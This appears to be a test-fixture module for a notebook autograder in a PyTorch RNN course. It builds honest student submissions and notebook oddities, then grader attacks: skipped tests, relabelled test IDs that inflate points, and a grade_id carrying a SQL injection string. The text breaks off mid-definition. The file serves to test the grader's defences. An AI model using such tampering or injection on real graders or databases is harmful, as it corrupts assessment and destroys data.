"""A second class, written by somebody who has not seen the first: honest habits, and attacks of the same families.

The words {course}, {port} and {home} are replaced in `code` only, so that answers find them in variables.
"""

from __future__ import annotations

import copy
import json
import os
import socket
from pathlib import Path

from attacks import HONEST_ANSWERS, Attack, each, is_test, marks

MARK = "second-class-mark"  # in every script, link and escape sequence that must not work
ONLY = "second-class-secret"  # what one attacker leaves for another

# ---------------------------------------------------------------------------------------------------------------------
# Right answers to the other tasks, as a plain student writes them
# ---------------------------------------------------------------------------------------------------------------------

SHAPES = """def rnn_shapes(batch, time, hidden, layers, directions):
    return (batch, time, directions * hidden), (layers * directions, batch, hidden)"""
STATE = """def zero_state(layer, batch):
    directions = 2 if layer.bidirectional else 1
    return torch.zeros(layer.num_layers * directions, batch, layer.hidden_size)"""
ONE = "def run_one(layer, sequence):\n    return layer(sequence)[0]"
BY_LAYER = """def by_layer(h_n, layers, directions):
    return h_n.reshape(layers, directions, h_n.shape[1], h_n.shape[2])"""
SUMMARY = """def summary(layer, batch):
    _, h_n = layer(batch)
    return torch.cat([h_n[-2], h_n[-1]], dim=1)"""
RUN_BATCH = "def run_batch(layer, batch):\n    return layer(batch.transpose(0, 1))[0].transpose(0, 1)"
EVERYTHING = HONEST_ANSWERS | {
    "predict-shapes": SHAPES,
    "initial-state": STATE,
    "one-sequence": ONE,
    "state-by-layer": BY_LAYER,
    "both-directions": SUMMARY,
    "run-batch": RUN_BATCH,
}
WORTH = {
    "make-layer": 2.0,
    "predict-shapes": 4.0,
    "initial-state": 2.0,
    "one-sequence": 2.0,
    "state-by-layer": 2.0,
    "both-directions": 4.0,
    "swap-axes": 2.0,
    "run-batch": 2.0,
}


def honest(code: str = "", answers: dict[str, str] | None = None, **more) -> Attack:
    """An honest student, who deserves the points of every task that is answered."""
    answers = answers or {}
    deserved = sum(WORTH[task] for task in HONEST_ANSWERS | answers if task in WORTH)
    return Attack("honest", code, answers=answers, points=deserved, **more)


def everything(code: str = "", answers: dict[str, str] | None = None, **more) -> Attack:
    return honest(code, EVERYTHING | (answers or {}), **more)


# ---------------------------------------------------------------------------------------------------------------------
# Changes to notebooks and folders
# ---------------------------------------------------------------------------------------------------------------------


def place(notebook: dict, name: str) -> int:
    return next(number for number, cell in enumerate(notebook["cells"]) if cell.get("id") == name)


def find(notebook: dict, name: str) -> dict:
    return notebook["cells"][place(notebook, name)]


def text(cell: dict) -> str:
    return cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])


def new_cell(name: str, source: str, kind: str = "code") -> dict:
    cell = {"cell_type": kind, "id": name, "metadata": {}, "source": source}
    return cell | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def is_answer(cell: dict) -> bool:
    marked = cell["metadata"].get("nbgrader", {})
    return bool(marked.get("solution")) and cell["cell_type"] == "code"


def split_with_its_marks(notebook: dict) -> None:
    """JupyterLab's split gives both halves the same metadata."""
    at = place(notebook, "swap-axes")
    first = notebook["cells"][at]
    second = copy.deepcopy(first)
    first["source"] = "swap = (0, 1)"
    second["id"] = "second-half"
    second["source"] = "def time_first(batch):\n    return batch.transpose(*swap)"
    notebook["cells"].insert(at + 1, second)


def paste_the_answer_again(notebook: dict) -> None:
    """The first try stays above, the copy of the cell has the right answer."""
    at = place(notebook, "make-layer")
    right = copy.deepcopy(notebook["cells"][at])
    right["id"] = "pasted"
    notebook["cells"][at]["source"] = "def make_layer(features, hidden):\n    return nn.RNN(hidden, features)"
    notebook["cells"].insert(at + 1, right)


def paste_a_test_at_the_end(notebook: dict) -> None:
    pasted = copy.deepcopy(find(notebook, "swap-axes-check"))
    pasted["id"] = "pasted-test"
    del pasted["metadata"]["nbgrader"]
    notebook["cells"].append(pasted)


def answers_to_the_top(notebook: dict) -> None:
    answers = [cell for cell in notebook["cells"] if is_answer(cell)]
    others = [cell for cell in notebook["cells"] if not is_answer(cell)]
    notebook["cells"] = others[:2] + answers + others[2:]


def helper_in_a_cell_above(notebook: dict) -> None:
    """All the work is in a cell of the student's own; the answer's cell has only a name for it."""
    at = place(notebook, "swap-axes")
    notebook["cells"].insert(at, new_cell("work", "def my_swap(x):\n    return x.permute(1, 0, 2)"))
    find(notebook, "swap-axes")["source"] = "time_first = my_swap"


def answer_stands_above_an_empty_cell(notebook: dict) -> None:
    at = place(notebook, "swap-axes")
    answer = text(notebook["cells"][at])
    notebook["cells"][at]["source"] = ""
    notebook["cells"].insert(at, new_cell("above", answer))


def tests_have_prints(notebook: dict) -> None:
    each(lambda cell: cell.update(source=text(cell) + "\nprint('passed!!!')"), is_test)(notebook)


def tests_are_commented_out(notebook: dict) -> None:
    each(lambda cell: cell.update(source="# " + text(cell).replace("\n", "\n# ")), is_test)(notebook)


def wrong_kinds(notebook: dict) -> None:
    """The keys M and R, pressed in the wrong mode; nbgrader puts the kind back."""
    for name, kind in (("make-layer", "markdown"), ("swap-axes-check", "raw")):
        cell = find(notebook, name)
        cell["cell_type"] = kind
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def written_by_colab(notebook: dict) -> None:
    notebook["metadata"] = {
        "colab": {"provenance": [], "toc_visible": True},
        "kernelspec": {"name": "python3", "display_name": "Python 3"},
        "accelerator": "GPU",
    }
    notebook["nbformat_minor"] = 0
    for number, cell in enumerate(notebook["cells"]):
        cell.pop("id", None)
        cell["metadata"] |= {"id": f"xY{number}", "colab": {"base_uri": "https://localhost:8080/", "height": 300}}
        if cell["cell_type"] == "code":
            cell["metadata"]["outputId"] = "a6c9ff5e-5c4a-4a6e-b7d5-f1d7d1d2f1a0"


def written_by_vs_code(notebook: dict) -> None:
    notebook["metadata"] = {
        "kernelspec": {"display_name": ".venv (3.11.7)", "language": "python", "name": "venv-that-nobody-has"},
        "language_info": {"name": "python", "version": "3.11.7", "file_extension": ".py", "mimetype": "text/x-python"},
        "orig_nbformat": 4,
        "vscode": {"interpreter": {"hash": "31f2aee4e71d21fbe5cf8b01ff0e069b9275f58929596ceb00d14d90e3e16cd6"}},
    }
    for number, cell in enumerate(notebook["cells"]):
        cell["metadata"]["vscode"] = {"languageId": "python"}
        if cell["cell_type"] == "code":
            cell["execution_count"] = number
        cell["source"] = text(cell).splitlines(keepends=True)


def no_notebook_metadata(notebook: dict) -> None:
    notebook["metadata"] = {}


def stored_outputs_of_every_kind(notebook: dict) -> None:
    data = {
        "text/plain": ["<Figure size 640x480 ", "with 1 Axes>"],
        "image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>",
        "text/latex": "$$\\frac{1}{2}$$",
        "text/markdown": "**bold**",
        "application/json": {"deep": [1, 2, {"er": None}]},
        "application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2, "version_minor": 0},
        "application/vnd.plotly.v1+json": {"data": [{"x": [1, 2], "y": [3, 4]}], "layout": {}},
    }
    old_error = {"output_type": "error", "ename": "NameError", "evalue": "no", "traceback": ["\u001b[0;31mNameError"]}
    find(notebook, "own")["outputs"] = [
        {"output_type": "display_data", "data": data, "metadata": {"image/png": {"width": 10}}},
        {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 7},
        {"output_type": "stream", "name": "stderr", "text": "0%|          | 0/3\r100%|##########| 3/3\n" * 500},
        old_error,
    ]
    find(notebook, "swap-axes-check")["outputs"] = [old_error]
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}


def a_picture_in_a_note(notebook: dict) -> None:
    note = new_cell("note", "My sketch: ![sketch](attachment:sketch.png) and $h_t = \\tanh(Wx_t)$", "markdown")
    note["attachments"] = {"sketch.png": {"image/png": "iVBORw0KGgo="}}
    notebook["cells"] += [
        note,
        new_cell("raw-note", "\\newpage", "raw"),
        new_cell("empty", ""),
        new_cell("blank", " \n\t"),
    ]


def marks_of_the_text_are_lost(notebook: dict) -> None:
    """Title and tasks were typed again, translated and without metadata."""
    cells = [
        cell for cell in notebook["cells"] if cell["cell_type"] == "markdown" and cell["id"] != "explain-equal-sizes"
    ]
    for number, cell in enumerate(cells):
        cell.update(id=f"typed-{number}", metadata={}, source="### Aufgabe " + str(number))


def no_text_at_all(notebook: dict) -> None:
    notebook["cells"] = [
        cell for cell in notebook["cells"] if not cell["id"].endswith("-task") and cell["id"] != "title"
    ]


def folded_and_tagged(notebook: dict) -> None:
    for number, cell in enumerate(notebook["cells"]):
        cell["metadata"] |= {"collapsed": True, "tags": [], "jupyter": {"source_hidden": True}, "scrolled": True}
        cell["metadata"] |= {"ExecuteTime": {"end_time": "2026-11-01T10:00:00Z"}, "slideshow": {"slide_type": "slide"}}
        if cell["cell_type"] == "code":
            cell["metadata"]["jupyter"]["outputs_hidden"] = True
            cell["execution_count"] = 1000 - number


def the_same_id_twice(notebook: dict) -> None:
    notebook["cells"].append(new_cell("own", "print('an editor copied me, id and all')"))


def no_ids(notebook: dict) -> None:
    notebook["nbformat_minor"] = 4
    each(lambda cell: cell.pop("id"), lambda cell: True)(notebook)


def ids_are_new(notebook: dict) -> None:
    each(lambda cell: cell.update(id=f"a{abs(hash(cell['id'])):x}"[:12]), lambda cell: True)(notebook)


def own_module(path: Path, course: Path) -> None:
    (path.parent / "helpers.py").write_text("def swap(batch):\n    return batch.permute(1, 0, 2)\n")
    (path.parent / "package").mkdir()
    (path.parent / "package" / "__init__.py").write_text("")
    (path.parent / "package" / "layers.py").write_text("from torch import nn\nKIND = nn.RNN\n")


def own_data(path: Path, course: Path) -> None:
    (path.parent / "my data").mkdir()
    (path.parent / "my data" / "axes.json").write_text(json.dumps([0, 1]))


def rubbish_beside(path: Path, course: Path) -> None:
    for name in (".ipynb_checkpoints", "__MACOSX", ".vscode", "__pycache__", ".git"):
        (path.parent / name).mkdir()
        (path.parent / name / "ps1_shapes-checkpoint.ipynb").write_text("{")
    for name in (".DS_Store", "Thumbs.db", "ps1_shapes.ipynb.bak", "~$notes.docx", "Größe ✓.txt"):
        (path.parent / name).write_text("not a notebook")


def second_copy(path: Path, course: Path) -> None:
    """What a browser makes of a second download."""
    (path.parent / "ps1_shapes (1).ipynb").write_text(path.read_text())


def compact_and_unescaped(path: Path, course: Path) -> None:
    notebook = json.loads(path.read_text())
    path.write_text(json.dumps(notebook, ensure_ascii=False, separators=(",", ":"), sort_keys=True), encoding="utf-8")


# ---------------------------------------------------------------------------------------------------------------------
# Honest oddities
# ---------------------------------------------------------------------------------------------------------------------

CLEAN_START = "%reset -f\nimport torch\nfrom torch import nn\nfrom course_utils import check, toy"
COLAB = """from google.colab import drive
drive.mount('/content/drive')
%cd /content/drive/MyDrive/rnn"""
MAGICS = """%matplotlib inline
%load_ext autoreload
%autoreload 2
%config InlineBackend.figure_format = 'retina'
%env CUDA_VISIBLE_DEVICES=0
%precision 3
%xmode Verbose
print?
here = !ls
spent = %timeit -n 2 -r 2 -o sum(range(10))
%who
%pwd"""
PLOT = """import matplotlib.pyplot as plt
import numpy as np
plt.style.use('ggplot')
fig, ax = plt.subplots(1, 2)
ax[0].plot(np.cumsum(np.random.randn(100)))
ax[1].imshow(torch.rand(5, 5)); plt.tight_layout(); plt.savefig('figure.png'); plt.show()
fig"""
FILES = """import os, pickle, sqlite3, tempfile
from pathlib import Path
os.makedirs('out/deep', exist_ok=True)
Path('out/log.txt').write_text('hello')
pickle.dump({'a': 1}, open('out/x.pkl', 'wb')); assert pickle.load(open('out/x.pkl', 'rb')) == {'a': 1}
torch.save(torch.arange(3), 'out/t.pt'); print(torch.load('out/t.pt'))
sqlite3.connect('out/runs.db').execute('create table if not exists run (loss real)')
with tempfile.TemporaryDirectory() as folder: print(os.listdir(folder))
os.chdir('out'); print(os.getcwd())"""
TYPES = """from __future__ import annotations
from dataclasses import dataclass, field
from enum import Enum
from typing import NamedTuple, Protocol, TypedDict, TypeVar, Generic, get_type_hints
import pickle
T = TypeVar('T')
class Kind(Enum):
    RNN = 'rnn'
@dataclass(slots=True, order=True)
class Sizes(Generic[T]):
    batch: int = 1
    rest: list[T] = field(default_factory=list)
class Pair(NamedTuple):
    output: tuple
    h_n: tuple
class Runs(Protocol):
    def __call__(self, batch: torch.Tensor) -> torch.Tensor: ...
assert pickle.loads(pickle.dumps(Sizes(3))) == Sizes(3)
assert get_type_hints(Sizes)['batch'] is int"""
NAMES = """sum = 0; max = 3; min = 1; id = 7; input = torch.randn(2, 3, 4); str_ = 'x'; type_ = 1; dir = '.'; hash = '#'
layer = 'my layer'; output = None; batch = []; sizes = 'big'; shapes = {}; expected = 5; state = _ = __ = 0
from math import *
from torch.nn import *
l = I = O = 1; größe = 4; λ = lambda x: x"""
HOLD = """import sys, logging, warnings, signal, gc, atexit, random, numpy as np, threading, tracemalloc
sys.setrecursionlimit(100000); logging.basicConfig(level=logging.DEBUG); warnings.filterwarnings('ignore')
signal.signal(signal.SIGINT, signal.default_int_handler); gc.disable(); tracemalloc.start()
atexit.register(print, 'bye')
random.seed(0); np.random.seed(0); torch.manual_seed(0); torch.set_num_threads(1)
torch.set_printoptions(precision=2, sci_mode=False); torch.autograd.set_detect_anomaly(True)
ticker = threading.Thread(target=lambda: threading.Event().wait(20), daemon=True); ticker.start()"""
STOPPED = """x = torch.zeros(3)
print(x)
import sys
sys.exit()  # to stop Run All here while I work on the rest"""
REPR = """normal_repr = torch.Tensor.__repr__
torch.Tensor.__repr__ = lambda self, **kw: f'{tuple(self.shape)} {normal_repr(self)}'  # VS Code shows shapes now
torch.Tensor.show = lambda self: print(self)
torch.rand(2, 2)"""
STDOUT = """import sys
sys.stdout = open('log.txt', 'w')
print('into my log')"""
PROCESSES = """import subprocess, multiprocessing, asyncio, concurrent.futures
print(subprocess.run('echo from a shell; uname', shell=True, capture_output=True, text=True).stdout)
with concurrent.futures.ThreadPoolExecutor(2) as pool: print(list(pool.map(abs, [-1, -2])))
def square(x): return x * x
with multiprocessing.get_context('fork').Pool(1) as pool: print(pool.map(square, [1, 2]))
async def later():
    await asyncio.sleep(0.01)
    return 5
print(await later())
!nvidia-smi
!pip --version"""
SHOW = """from IPython.display import display, HTML, Markdown, Math, clear_output, Image, JSON
import ipywidgets
handle = display('first', display_id=True); handle.update('second'); clear_output(wait=True)
display(HTML('<b>bold</b><table><tr><td>1</td></tr></table>'), Markdown('# big'), Math(r'x^2'))
display(ipywidgets.IntSlider())
display({'application/vnd.mine+json': {'a': [1]}, 'text/plain': 'mine'}, raw=True)
for i in range(200): print('\\r', i, end='', flush=True)
import sys; sys.stderr.write('to stderr\\n'); print('\\x1b[31mred\\x1b[0m \\t ✓ 漢字 😀')
from rich import print as rprint; rprint('[bold]rich[/bold]')"""
DOCTEST = """import doctest, unittest, inspect, cProfile
def double(x):
    '''
    >>> double(2)
    4
    '''
    return 2 * x
print(doctest.testmod())
class TestDouble(unittest.TestCase):
    def test_it(self):
        self.assertEqual(double(2), 4)
unittest.main(argv=[''], exit=False)
print(inspect.getsource(double)); cProfile.run('double(3)')
import sys; assert sys.modules['__main__'].double is double
from __main__ import double as again; globals()['thrice'] = lambda x: 3 * x; print(thrice(2))"""
DEBUG = """try:
    breakpoint()
except BaseException as error:
    print(type(error))
name = input('your name? ')"""
BROKEN_NOTES = "this is not python, just a note in the wrong kind of cell: h_n has shape (layers, batch, hidden)"
WRITEFILE = "%%writefile my_helpers.py\ndef swap(x):\n    return x.transpose(0, 1)"

GUARD = """if __name__ == '__main__':
    def time_first(batch):
        return batch.transpose(0, 1)
    print('defined')"""
TIMED = "%%time\ndef time_first(batch):\n    return batch.transpose(0, 1)"
TYPED_LAYER = '''from __future__ import annotations
def make_layer(features: int, hidden: "int" = 16, /, *unused: object, **options: bool) -> nn.RNN: ...
def make_layer(features: int = 1, hidden: int | None = None, *, verbose: bool = False) -> nn.RNN:  # noqa
    """Return a layer.

    >>> make_layer(5, 3)
    RNN(5, 3, batch_first=True)
    """
    if verbose: print(f"{features=} {hidden=}")
    assert hidden is not None and (rest := hidden) > 0, "hidden must be positive"
    match (features, rest):
        case (int(f), int(h)):
            return nn.RNN(input_size=f, hidden_size=h, num_layers=1, bidirectional=False, dropout=0.0, batch_first=True)
        case _:
            raise TypeError
'''
OWN_LAYER = '''class Layer(nn.RNN):
    """An nn.RNN with my favourite settings."""
    def __init__(self, features, hidden):
        super().__init__(features, hidden, batch_first=True)
        self.made_by = "me"
make_layer = Layer'''
HOOKED_LAYER = """import copy, pickle
calls = []
def make_layer(features, hidden):
    layer = nn.RNN(features, hidden, batch_first=True, nonlinearity="relu")
    for p in layer.parameters():
        nn.init.uniform_(p, -0.1, 0.1)
    layer.register_forward_hook(lambda module, inputs, output: print("forward", inputs[0].shape, output[0].shape))
    layer.note = {"author": "me"}
    calls.append(layer)
    return copy.deepcopy(layer).eval().requires_grad_(False)"""
CACHED = """import functools, time
def logged(function):
    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        start = time.perf_counter()
        result = function(*args, **kwargs)
        print(f"{function.__name__}({args}, {kwargs}) took {time.perf_counter() - start:.6f}")
        return result
    return wrapper
@logged
@functools.lru_cache(maxsize=None)
def make_layer(features, hidden):
    global counter
    counter = globals().get("counter", 0) + 1
    return nn.RNN(features, hidden, batch_first=True)"""
CALLABLE_OBJECT = """class TimeFirst:
    calls = 0
    def __init__(self, order):
        self.order = order
    def __call__(self, batch):
        TimeFirst.calls += 1
        return batch.permute(*self.order)
time_first = TimeFirst((1, 0, 2))"""
STATIC = """class Solutions:
    @staticmethod
    def time_first(batch):
        return torch.movedim(batch, 0, 1)
    @classmethod
    def make_layer(cls, features, hidden):
        return nn.RNN(features, hidden, batch_first=True)
time_first = Solutions().time_first
make_layer = Solutions.make_layer"""
PARTIAL = "from functools import partial\ntime_first = partial(torch.transpose, dim0=0, dim1=1)"
LAMBDA = "make_layer = lambda features, hidden: nn.RNN(features, hidden, batch_first=True)"
NUMPY = """import numpy as np
def time_first(batch):
    return torch.tensor(np.ascontiguousarray(np.swapaxes(batch.numpy(), 0, 1)))"""
LOOPS = """def time_first(batch):
    B, T, F = batch.shape
    out = torch.empty(T, B, F)
    for b in range(B):
        for t in range(T):
            for f in range(F):
                out[t, b, f] = batch[b, t, f].item()
    print(out)
    return out"""
IN_PLACE = "def time_first(batch):\n    batch.transpose_(0, 1)\n    return batch"
RECURSION = """def time_first(batch):
    if batch.shape[1] == 1:
        return batch.reshape(1, batch.shape[0], batch.shape[2])
    return torch.cat([time_first(batch[:, :1]), time_first(batch[:, 1:])])"""
SCRIPTED = """@torch.jit.script
def time_first(batch):
    return torch.einsum('btf->tbf', batch).contiguous()"""
INFERENCE = """@torch.inference_mode()
def run_batch(layer, batch):
    layer.eval()
    return layer(batch.swapaxes(0, 1).contiguous())[0].swapaxes(0, 1)"""
FLAG = """def run_batch(layer, batch):
    before = layer.batch_first
    try:
        layer.batch_first = True
        return layer(batch)[0]
    finally:
        layer.batch_first = before"""
ONE_BY_ONE = """def run_batch(layer, batch):
    results = []
    for sample in batch:
        output, h_n = layer(sample.unsqueeze(1), None)
        results.append(output.squeeze(1))
    return torch.stack(results)"""
STEP_BY_STEP = """def run_batch(layer, batch):
    state = torch.zeros(layer.num_layers, batch.size(0), layer.hidden_size)
    steps = []
    for x in batch.unbind(1):
        output, state = layer(x[None], state)
        steps += [output]
    return torch.cat(steps).permute(1, 0, 2)"""
MEASURED = """def rnn_shapes(batch, time, hidden, layers, directions):
    probe = nn.RNN(1, hidden, layers, batch_first=True, bidirectional=directions == 2)
    with torch.no_grad():
        output, h_n = probe(torch.randn(batch, time, 1))
    return output.shape, h_n.shape"""
NAMED = """from collections import namedtuple
Shapes = namedtuple('Shapes', 'output h_n')
def rnn_shapes(*, batch, time, hidden, layers, directions, **kwargs):
    return Shapes(output=tuple([batch, time, hidden * directions]), h_n=tuple(x for x in (layers * directions, batch, hidden)))"""
OWN_SIZES = """class rnn_shapes(tuple):
    def __new__(cls, batch, time, hidden, layers, directions):
        return super().__new__(cls, [(batch, time, directions * hidden), (layers * directions, batch, hidden)])"""
VIEW_OF_BIG = """ZEROS = torch.zeros(64, 256, 256)
def zero_state(layer, batch):
    return ZEROS[: len(layer.all_weights), :batch, : layer.hidden_size]"""
EXPANDED = """def zero_state(layer, batch):
    n = layer.num_layers * (1 + layer.bidirectional)
    weight = next(layer.parameters())
    return weight.new_zeros(()).expand(n, batch, layer.hidden_size)"""
PARAMETER = """def zero_state(layer, batch):
    d = {False: 1, True: 2}[layer.bidirectional]
    return nn.Parameter(torch.zeros([layer.num_layers * d, batch, layer.hidden_size]))"""
PROBED = """def zero_state(layer, batch):
    _, h = layer(torch.zeros(2, 2, layer.input_size))
    return torch.zeros(h.size(0), batch, h.size(-1))"""
UNSQUEEZED = """def run_one(layer, sequence):
    if layer.batch_first:
        return layer(sequence.unsqueeze(0))[0].squeeze(0)
    else:
        return layer.forward(sequence.unsqueeze(1))[0].squeeze(1)"""
STATED = """def run_one(layer, sequence):
    states = []
    for step in sequence:
        states.append(layer(step[None], states[-1] if states else None)[1])
    return torch.stack([s[-1] for s in states]).detach().clone()"""
UNFLATTENED = "def by_layer(h_n, layers, directions):\n    return h_n.unflatten(0, (layers, directions))"
STACKED = """def by_layer(h_n, layers, directions):
    rows = []
    for i in range(layers):
        rows.append(torch.stack([h_n[i * directions + j] for j in range(directions)]))
    return torch.stack(rows)"""
FROM_OUTPUT = """def summary(layer, batch):
    out, _ = layer(batch)
    H = layer.hidden_size
    return torch.hstack((out[:, -1, :H], out[:, 0, H:]))"""
HALVES = """def summary(layer, batch):
    h = layer(input=batch, hx=None)[1].view(layer.num_layers, 2, len(batch), -1)
    return h[-1].transpose(0, 1).flatten(1)"""
ASKS_ITS_KIND = """def run_one(layer, sequence):
    if not isinstance(layer, nn.RNN) or not issubclass(type(layer), nn.Module):
        raise TypeError(type(layer))
    if not isinstance(sequence, torch.Tensor) or sequence.dim() != 2 or type(sequence) is not torch.Tensor:
        raise ValueError(sequence)
    print(layer, list(layer.named_parameters()), sum(p.numel() for p in layer.parameters()), layer.state_dict().keys())
    with torch.random.fork_rng():
        layer.train()
        layer.flatten_parameters()
        layer.zero_grad()
        return layer(sequence)[0]"""
FROM_FILE = "from my_helpers import swap\ntime_first = swap"
FROM_MODULE = "import helpers\nfrom package.layers import KIND\ntime_first = helpers.swap"
FROM_DATA = """import json
with open('my data/axes.json') as file:
    axes = json.load(file)
def time_first(batch):
    return batch.transpose(*axes)"""
EXEC = "exec('def time_first(batch):\\n    return batch.transpose(0, 1)')\nglobals()['make_layer'] = make_layer"
SOURCE_SHOWN = """import inspect
def time_first(batch):
    return batch.transpose(0, 1)
print(inspect.getsource(time_first))"""
TRIED_BELOW = """def time_first(batch):
    return batch.transpose(0, 1)

# my own tests
x = torch.arange(24.).reshape(2, 3, 4)
assert time_first(x).shape == (3, 2, 4)
assert torch.equal(time_first(time_first(x)), x)
time_first(x)[99]  # why does this fail??"""
TRIED_BY_HAND = """def time_first(batch):
    return batch.transpose(0, 1)
batch = toy.labelled(batch=2, time=3, features=1)
try:
    check.shape(time_first(batch), "time batch features", name="mine", time=3, batch=2, features=1)
finally:
    time_first(batch).tolist()"""
ALL_IN_ONE = "\n\n".join(EVERYTHING.values())
SHARED = """class Answers:
    log = []
    def note(self, value): self.log.append(value); return value
ANSWERS = Answers()"""
USES_SHARED = (
    "def time_first(batch):\n    global last\n    last = batch\n    return ANSWERS.note(batch).transpose(0, 1)"
)
TABS = "def time_first(batch):\n\tif True:\n\t\treturn batch.transpose(0, 1);\n\telse:\n\t\tpass # ünï\n\n\n\n"
COMMENTED = "# YOUR CODE HERE\n" + "# old try: return batch.view(3, 2, 1)\n" * 3000 + HONEST_ANSWERS["swap-axes"]

SECOND_ODDITIES = {
    "o-clean-start": honest(CLEAN_START),
    "o-colab-drive": everything(COLAB, notebook=written_by_colab),
    "o-vs-code": everything(notebook=written_by_vs_code),
    "o-magics": honest(MAGICS),
    "o-plots": honest(PLOT),
    "o-files-and-chdir": everything(FILES),
    "o-dataclasses-and-types": honest(TYPES, {"make-layer": TYPED_LAYER}),
    "o-names-taken": everything(NAMES),
    "o-interpreter-settings": everything(HOLD),
    "o-sys-exit": everything(STOPPED),
    "o-shapes-in-repr": everything(REPR),
    "o-stdout-to-file": everything(STDOUT),
    "o-processes-and-await": honest(PROCESSES),
    "o-displays": honest(SHOW, notebook=stored_outputs_of_every_kind),
    "o-doctest-and-main": honest(DOCTEST),
    "o-breakpoint-and-input": honest(DEBUG),
    "o-prose-in-code-cell": everything(BROKEN_NOTES),
    "o-endless-leftover": honest("i = 0\nwhile True:\n    i += 1"),
    "o-recursion-leftover": honest("def f(n):\n    return f(n + 1)\nf(0)"),
    "o-grad-off": everything("torch.autograd.set_grad_enabled(False)"),
    "o-double-by-default": honest("torch.set_default_dtype(torch.float64)", {"run-batch": RUN_BATCH}),
    "o-deterministic": everything("torch.use_deterministic_algorithms(True)\ntorch.set_default_device('cpu')"),
    "o-much-printed": honest("for i in range(20000):\n    print('epoch', i, 'loss', 1 / (i + 1))"),
    "o-writefile-import": honest(WRITEFILE, {"swap-axes": FROM_FILE}),
    "o-own-module": honest(answers={"swap-axes": FROM_MODULE}, folder=own_module),
    "o-own-data": honest(answers={"swap-axes": FROM_DATA}, folder=own_data),
    "o-rubbish-beside": everything(folder=rubbish_beside),
    "o-second-copy": everything(folder=second_copy),
    "o-compact-json": everything("print('größe ✓ 漢字')", folder=compact_and_unescaped),
    "o-main-guard": honest(answers={"swap-axes": GUARD}),
    "o-time-magic-on-answer": honest(answers={"swap-axes": TIMED}),
    "o-own-layer-class": honest(answers={"make-layer": OWN_LAYER}),
    "o-hooked-relu-layer": honest(answers={"make-layer": HOOKED_LAYER}),
    "o-layer-without-bias": honest(
        answers={
            "make-layer": "def make_layer(features, hidden):\n    return nn.RNN(features, hidden, 1, 'tanh', False, True)"
        }
    ),
    "o-cached-and-logged": honest(answers={"make-layer": CACHED}),
    "o-lambda-and-object": honest(answers={"make-layer": LAMBDA, "swap-axes": CALLABLE_OBJECT}),
    "o-methods": honest(answers={"make-layer": "pass", "swap-axes": STATIC}, notebook=answers_to_the_top),
    "o-partial": honest(answers={"swap-axes": PARTIAL}),
    "o-numpy": everything(answers={"swap-axes": NUMPY, "predict-shapes": MEASURED, "initial-state": PROBED}),
    "o-loops": everything(answers={"swap-axes": LOOPS, "state-by-layer": STACKED, "run-batch": ONE_BY_ONE}),
    "o-in-place": honest(answers={"swap-axes": IN_PLACE, "state-by-layer": UNFLATTENED}),
    "o-recursive": honest(answers={"swap-axes": RECURSION}),
    "o-jit-script": honest(answers={"swap-axes": SCRIPTED}),
    "o-inference-mode": everything(answers={"run-batch": INFERENCE, "one-sequence": UNSQUEEZED}),
    "o-flag-changed-and-restored": honest(answers={"run-batch": FLAG}),
    "o-step-by-step": honest(answers={"run-batch": STEP_BY_STEP, "one-sequence": STATED}),
    "o-named-shapes": everything(answers={"predict-shapes": NAMED, "both-directions": FROM_OUTPUT}),
    "o-class-for-shapes": everything(answers={"predict-shapes": OWN_SIZES, "both-directions": HALVES}),
    "o-view-of-big-zeros": honest(answers={"initial-state": VIEW_OF_BIG}),
    "o-expanded-zeros": honest(answers={"initial-state": EXPANDED}),
    "o-parameter-zeros": honest(answers={"initial-state": PARAMETER}),
    "o-asks-what-it-is-given": honest(answers={"one-sequence": ASKS_ITS_KIND}),
    "o-exec": honest(answers={"swap-axes": EXEC}),
    "o-getsource": honest(answers={"swap-axes": SOURCE_SHOWN}),
    "o-own-tests-fail-below": honest(answers={"swap-axes": TRIED_BELOW}),
    "o-uses-check-and-toy": honest(answers={"swap-axes": TRIED_BY_HAND}),
    "o-all-answers-in-one-cell": everything(ALL_IN_ONE, dict.fromkeys(EVERYTHING, "# see the first cell")),
    "o-global-object": honest(SHARED, {"swap-axes": USES_SHARED}),
    "o-tabs": honest(answers={"swap-axes": TABS}),
    "o-long-comments": honest(answers={"swap-axes": COMMENTED}),
    "o-split-with-marks": honest(notebook=split_with_its_marks),
    "o-answer-pasted-again": honest(notebook=paste_the_answer_again),
    "o-test-pasted": everything(notebook=paste_a_test_at_the_end),
    "o-answers-first": everything(notebook=answers_to_the_top),
    "o-helper-above": honest(notebook=helper_in_a_cell_above),
    "o-answer-above-empty-cell": honest(notebook=answer_stands_above_an_empty_cell),
    "o-prints-in-tests": everything(notebook=tests_have_prints),
    "o-tests-commented-out": everything(notebook=tests_are_commented_out),
    "o-wrong-kinds": everything(notebook=wrong_kinds),
    "o-no-metadata": everything(notebook=no_notebook_metadata),
    "o-notes-and-pictures": everything(notebook=a_picture_in_a_note),
    "o-text-retyped": everything(notebook=marks_of_the_text_are_lost),
    "o-text-deleted": everything(notebook=no_text_at_all),
    "o-folded": everything(notebook=folded_and_tagged),
    "o-same-id-twice": everything("1 + 1", notebook=the_same_id_twice),
    "o-no-ids": everything(notebook=no_ids),
    "o-new-ids": everything(notebook=ids_are_new),
}

# ---------------------------------------------------------------------------------------------------------------------
# Attacks: changes to notebooks and folders
# ---------------------------------------------------------------------------------------------------------------------


def tests_are_skipped(notebook: dict) -> None:
    tags = ["skip-execution", "raises-exception", "remove_cell", "skip"]
    each(lambda cell: cell["metadata"].update(tags=tags, execution={"timeout": -1}), is_test)(notebook)


def ids_are_swapped(notebook: dict) -> None:
    """Each test claims to be the easiest one."""
    each(marks(grade_id="make-layer-check", points=20), is_test)(notebook)
    find(notebook, "make-layer-check")["metadata"]["nbgrader"]["points"] = 2


def a_bonus(notebook: dict) -> None:
    bonus = new_cell("bonus", "pass")
    bonus["metadata"]["nbgrader"] = find(notebook, "swap-axes-check")["metadata"]["nbgrader"] | {
        "grade_id": "bonus'; DROP TABLE grade; --",
